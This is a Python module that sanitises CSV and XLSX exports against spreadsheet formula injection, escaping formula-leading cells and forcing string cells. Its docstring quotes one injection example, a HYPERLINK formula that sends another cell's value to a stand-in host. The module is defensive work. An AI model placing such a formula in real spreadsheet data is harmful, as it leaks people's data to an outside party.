"""Every spreadsheet file fhb writes for people to open (CSV and XLSX) goes through here, so that no
value a user or a registry typed can become a formula in Excel or LibreOffice (CSV injection,
CWE-1236): a citizen named `=HYPERLINK("http://x/?"&A2,"Klik")` must stay a name.

- CSV: a text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading
  apostrophe, which spreadsheets show as text (OWASP's advice). Numbers are written as they are.
- XLSX: every text cell is stored as a string cell, never a formula, so nothing needs changing.

Files with a fixed contract and no free text (the DST record file, `eligibility --format csv`) are
written exactly as their contracts say and do not use this.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """A CSV cell that a spreadsheet shows as the text it is."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


class SafeCsvWriter:
    """csv.writer with every cell passed through safe_cell."""

    def __init__(self, out, **options):
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([safe_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_bytes(header: list[str], rows: Iterable[Iterable[Any]], *, delimiter: str = ";", bom: bool = True) -> bytes:
    """A whole CSV file (UTF-8, with a BOM so Excel reads it as UTF-8)."""
    out = io.StringIO()
    if bom:
        out.write("\ufeff")
    writer = SafeCsvWriter(out, delimiter=delimiter, lineterminator="\r\n")
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue().encode("utf-8")


def xlsx_bytes(sheet_name: str, header: list[str], rows: Iterable[Iterable[Any]]) -> bytes:
    """A one-sheet workbook; text cells are string cells, never formulas."""
    # not at the top: no cycle; openpyxl is loaded only by the processes that write a workbook
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(sheet_name)

    def cells(row):
        out = []
        for value in row:
            cell = WriteOnlyCell(sheet, value=value)
            if isinstance(value, str):
                cell.data_type = "s"  # openpyxl would read a leading "=" as a formula
            out.append(cell)
        return out

    sheet.append(cells(header))
    for row in rows:
        sheet.append(cells(row))
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
